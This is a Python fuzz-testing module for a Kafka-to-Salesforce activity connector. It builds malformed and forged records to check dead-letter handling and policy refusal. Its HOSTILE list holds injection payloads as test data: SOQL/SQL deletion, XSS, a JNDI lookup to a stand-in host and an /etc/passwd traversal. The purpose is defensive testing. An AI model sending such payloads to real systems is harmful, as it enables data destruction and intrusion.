"""Seeded fuzzed inputs for every input topic: bad ones with good ones mixed in."""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

from connectors.kafka.serde import DecodeError, Serde
from connectors.kafka.topics import Topics
from connectors.salesforce import policy
from domain.commands import TASK_EXTERNAL_ID, TaskUpsert
from streams.activity.validation import InvalidEvent, validate
from tests.factories import (
    CALL_RESULTS,
    EMAIL_TYPES,
    call_event,
    contact_ref,
    email_event,
)
from tests.reliability.checker import expected_task

# Just under the 1 MB a default Kafka accepts per record, framing included.
HUGE = 900_000
HOSTILE = (
    "' OR Name LIKE '%' --",
    "\\'; DELETE FROM Task; --",
    "SELECT Id FROM User WHERE Username != null",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>&amp;&#0;&lt;",
    "nul\x00inside",
    "\x00",
    "\u202eevil RTL override\u202c",
    "emoji 🎉 family 👩\u200d👩\u200d👧\u200d👦",
    "Ｆｕｌｌｗｉｄｔｈ and Z̸̡̛͎a̴l̶g̷o̸",
    "line\r\nbreak\u2028and\u0085next",
    'tab\tback\\slash "quoted" `ticked`',
    "%_ wildcards _%",
    "${jndi:ldap://evil.example/a} {{7*7}} ../../etc/passwd",
    "\ufeffBOM first",
    "   ",
    "",
    "é" * 300,
)
# Salesforce's CallDurationInSeconds holds 8 digits; an Avro int goes further.
MAX_DURATION = 99_999_999
# Safe inside an external id (no control characters, no edge whitespace).
ID_HOSTILE = ("'", "%_", "<b>", "\\", "é", "🎉", '"', ";--", "Ａ")
USER_SCHEMAS = ("CallLogged", "EmailEvent", "ContactEvent", "UserEvent")


@dataclass(frozen=True)
class Input:
    """One fuzzed record, and what must become of it."""

    tag: str
    topic: str
    key: bytes | None
    value: bytes
    kind: str
    bad: bool  # must end in the dead-letter topic, once
    task: dict[str, Any] | None = None  # must end as this Task (good activities)
    task_id: str | None = None  # must end as a Task with this external id
    # Valid for the worker, refused by Salesforce: its dead letter may come from the
    # writer (the command's coordinates, not the event's), found by this command id.
    command_id: str | None = None


class Fuzzer:
    """Builds `n` inputs from a seed; every bad one is checked to really be bad."""

    def __init__(self, topics: Topics, people: Sequence[str], seed: int) -> None:
        self.t, self.people = topics, list(people)
        self.rng = random.Random(seed)
        self.serde = Serde()
        self.schema_of = {
            topics.calls.name: "CallLogged",
            topics.emails.name: "EmailEvent",
            topics.contact_actions.name: "ContactEvent",
            topics.users.name: "UserEvent",
            topics.commands.name: "SalesforceCommand",
        }
        # Kafka refuses a keyless record on a compacted topic (INVALID_RECORD), so
        # such input can never reach the pipeline there: bad inputs get a key.
        self.compacted = {
            spec.name for spec in topics.all() if spec.config.get("cleanup.policy")
        }
        self.huge_left = 0
        self._event_huge = False  # one huge field per record keeps it under 1 MB

    def inputs(self, n: int, huge: int) -> list[Input]:
        self.huge_left = huge
        makers: list[tuple[float, Callable[[int], Input]]] = [
            (0.40, self.good_activity),
            (0.02, self.good_user),
            (0.02, self.good_contact_action),
            (0.02, self.good_command),
            (0.12, self.random_bytes),
            (0.12, self.truncated),
            (0.12, self.wrong_schema),
            (0.12, self.invalid_activity),
            (0.06, self.refused_command),
            (0.01, self.refused_by_salesforce),
        ]
        weights = [w for w, _ in makers]
        return [self.rng.choices(makers, weights)[0][1](i) for i in range(n)]

    # -- helpers ----------------------------------------------------------------
    def _text(self) -> str | None:
        if self._take_huge(0.05):
            return self.rng.choice("xyz") * self.rng.randint(HUGE // 2, HUGE)
        return self.rng.choice((*HOSTILE, None, "plain words"))

    def _id(self, prefix: str, i: int) -> str:
        return f"{prefix}-{i}-{self.rng.choice(ID_HOSTILE)}-{self.rng.randrange(10**6)}"

    def _contact(self, i: int) -> dict[str, Any]:
        return contact_ref(
            engage_contact_id=self._id("fuzz-ec", i % 50),
            salesforce_id=self.rng.choice(self.people),
            email=self.rng.choice((None, "a@example.org", "<x>@'y'.org")),
            first_name=self.rng.choice(HOSTILE),
            last_name=self.rng.choice(HOSTILE) or "Last",
            company=self.rng.choice(HOSTILE),
        )

    def _activity(self, i: int) -> tuple[str, dict[str, Any]]:
        self._event_huge = False
        contact = self._contact(i)
        user = self.rng.choice(("engage-user-1", "u-'%", "用户", "u<script>"))
        if self.rng.random() < 0.5:
            return "CallLogged", call_event(
                event_id=self._id("fuzz-call", i),
                user_id=user,
                contact=contact,
                call_result=self.rng.choice(CALL_RESULTS),
                subject=self._text() or "",
                comments=self._text(),
                voicemail_title=self._text(),
                recording_url=self.rng.choice(HOSTILE),
                duration_seconds=self.rng.choice((0, 1, 59, 3600, MAX_DURATION)),
            )
        return "EmailEvent", email_event(
            event_id=self._id("fuzz-email", i),
            user_id=user,
            contact=contact,
            event_type=self.rng.choice(EMAIL_TYPES),
            email_subject=self._text() or "",
            link_text=self._text(),
            body=self._text(),
        )

    def _topic(self, schema: str) -> str:
        return next(t for t, s in self.schema_of.items() if s == schema)

    def _valid(self, schema: str, i: int) -> dict[str, Any]:
        if schema in ("CallLogged", "EmailEvent"):
            while True:
                found, event = self._activity(i)
                if found == schema:
                    return event
        if schema == "UserEvent":
            return {
                "event_id": self._id("fuzz-user-event", i),
                "occurred_at": datetime.now(UTC),
                "user_id": self._id("fuzz-user", i),
                "action": self.rng.choice(("CONNECTED", "DISCONNECTED", "DELETED")),
                "salesforce_user_id": self.rng.choice((None, *HOSTILE[:6])),
            }
        if schema == "ContactEvent":
            return {
                "event_id": self._id("fuzz-action", i),
                "occurred_at": datetime.now(UTC),
                "user_id": "engage-user-1",
                "contact": self._contact(i) | {"engage_contact_id": f"fuzz-c-{i}"},
                "action": self.rng.choice(("ADDED", "UPDATED", "STATUS_CHANGED")),
                "source": None,
                "status": self.rng.choice((None, *HOSTILE[:4])),
            }
        return self._task_command(i)

    def _task_command(self, i: int) -> dict[str, Any]:
        subject = (self.rng.choice(HOSTILE).strip() or "s")[:255]
        fields = {
            "Subject": subject,
            "Status": "Completed",
            "ActivityDate": "2024-05-14",
            "WhoId": self.rng.choice(self.people),
            TASK_EXTERNAL_ID: f"fuzz-cmd-{i}",
        }
        return TaskUpsert(command_id=f"fuzz-cmd-{i}", fields=fields).to_avro()

    def _bad(self, i: int, topic: str, value: bytes, kind: str) -> Input:
        try:
            self.serde.decode(self.schema_of[topic], value)
        except DecodeError:
            keys = (b"k", self.rng.randbytes(8))
            if topic not in self.compacted:
                keys = (None, *keys)
            key = self.rng.choice(keys)
            return Input(f"bad-{i}", topic, key, value, kind, bad=True)
        raise AssertionError(f"fuzzer bug: {kind} input {i} decodes on {topic}")

    # -- good inputs ------------------------------------------------------------
    def good_activity(self, i: int) -> Input:
        schema, event = self._activity(i)
        value = self.serde.encode(schema, event)
        key = event["contact"]["engage_contact_id"].encode()
        return Input(
            event["event_id"],
            self._topic(schema),
            key,
            value,
            f"good-{schema}",
            bad=False,
            task=expected_task(schema, event),
            task_id=event["event_id"],
        )

    def good_user(self, i: int) -> Input:
        event = self._valid("UserEvent", i)
        value = self.serde.encode("UserEvent", event)
        return Input(
            f"user-{i}",
            self.t.users.name,
            event["user_id"].encode(),
            value,
            "good-UserEvent",
            bad=False,
        )

    def good_contact_action(self, i: int) -> Input:
        event = self._valid("ContactEvent", i)
        value = self.serde.encode("ContactEvent", event)
        key = event["contact"]["engage_contact_id"].encode()
        return Input(
            f"action-{i}",
            self.t.contact_actions.name,
            key,
            value,
            "good-ContactEvent",
            bad=False,
        )

    def good_command(self, i: int) -> Input:
        command = self._task_command(i)
        value = self.serde.encode("SalesforceCommand", command)
        key = command["fields"]["WhoId"].encode()
        return Input(
            f"command-{i}",
            self.t.commands.name,
            key,
            value,
            "good-command",
            bad=False,
            task_id=command["command_id"],
        )

    # -- bad inputs -------------------------------------------------------------
    def random_bytes(self, i: int) -> Input:
        topic = self.rng.choice(list(self.schema_of))
        size = self.rng.choice((0, 1, 2, 9, 10, 64, 300))
        self._event_huge = False
        if self._take_huge(0.03):
            size = HUGE
        body = self.rng.randbytes(size)
        # Sometimes dressed as Avro: a real magic byte before the noise.
        prefix = self.rng.choice((b"", b"", b"\xc3\x01", b"\x00"))
        return self._bad(i, topic, prefix + body, "random-bytes")

    def truncated(self, i: int) -> Input:
        topic = self.rng.choice(list(self.schema_of))
        schema = self.schema_of[topic]
        value = self.serde.encode(schema, self._valid(schema, i))
        cut = self.rng.choice(
            (self.rng.randrange(1, 10), self.rng.randrange(10, len(value)))
        )
        return self._bad(i, topic, value[:cut], "truncated-avro")

    def wrong_schema(self, i: int) -> Input:
        topic = self.rng.choice(list(self.schema_of))
        other = self.rng.choice(
            [
                s
                for s in (*USER_SCHEMAS, "SalesforceCommand")
                if s != self.schema_of[topic]
            ]
        )
        value = self.serde.encode(other, self._valid(other, i))
        return self._bad(i, topic, value, f"wrong-schema-{other}")

    def invalid_activity(self, i: int) -> Input:
        schema, event = self._activity(i)
        breakers = {
            "empty-event-id": {"event_id": ""},
            "blank-event-id": {"event_id": " \t "},
            "huge-event-id": {"event_id": "e" * (HUGE if self._take_huge() else 256)},
            "empty-user": {"user_id": ""},
            "blank-contact-id": {
                "contact": event["contact"] | {"engage_contact_id": "  "}
            },
            "soql-salesforce-id": {
                "contact": event["contact"] | {"salesforce_id": "003' OR Id != null"}
            },
            "html-salesforce-id": {
                "contact": event["contact"]
                | {"salesforce_id": "<b>003000000000001</b>"}
            },
            "account-salesforce-id": {
                "contact": event["contact"] | {"salesforce_id": "001000000000001AAA"}
            },
        }
        if schema == "CallLogged":
            breakers["negative-duration"] = {"duration_seconds": -1}
        name = self.rng.choice(sorted(breakers))
        broken = event | breakers[name]
        try:
            validate(broken)
        except InvalidEvent:
            value = self.serde.encode(schema, broken)
            return Input(
                f"bad-{i}",
                self._topic(schema),
                b"k",
                value,
                f"invalid-{name}",
                bad=True,
            )
        raise AssertionError(f"fuzzer bug: {name} passes validation")

    def refused_by_salesforce(self, i: int) -> Input:
        event = self._valid("CallLogged", i)
        event["duration_seconds"] = self.rng.randrange(MAX_DURATION + 1, 2**31)
        value = self.serde.encode("CallLogged", event)
        key = event["contact"]["engage_contact_id"].encode()
        return Input(
            event["event_id"],
            self.t.calls.name,
            key,
            value,
            "out-of-range-duration",
            bad=True,
            command_id=event["event_id"],
        )

    def _take_huge(self, chance: float = 0.2) -> bool:
        if self._event_huge or self.huge_left <= 0 or self.rng.random() >= chance:
            return False
        self.huge_left, self._event_huge = self.huge_left - 1, True
        return True

    def refused_command(self, i: int) -> Input:
        command = self._task_command(i)
        fields = command["fields"]
        forged = self.rng.choice(
            (
                command | {"operation": "DELETE"},
                command | {"fields": fields | {"Priority": "High"}},
                command | {"sobject": "Account", "fields": {"Name": "x"}},
                command | {"external_id_field": "Id"},
                command
                | {
                    "operation": "UPDATE",
                    "sobject": "Contact",
                    "external_id_field": None,
                    "record_id": fields["WhoId"],
                    "fields": {"Email": "evil@example.org"},
                },
                command
                | {
                    "operation": "CREATE",
                    "sobject": "Opportunity",
                    "external_id_field": None,
                    "fields": {"Name": "x"},
                },
            )
        )
        try:
            policy.check(forged)
        except policy.PolicyRefusal:
            value = self.serde.encode("SalesforceCommand", forged)
            return Input(
                f"bad-{i}",
                self.t.commands.name,
                fields["WhoId"].encode(),
                value,
                "policy-refused",
                bad=True,
            )
        raise AssertionError(f"fuzzer bug: forged command {forged} is allowed")
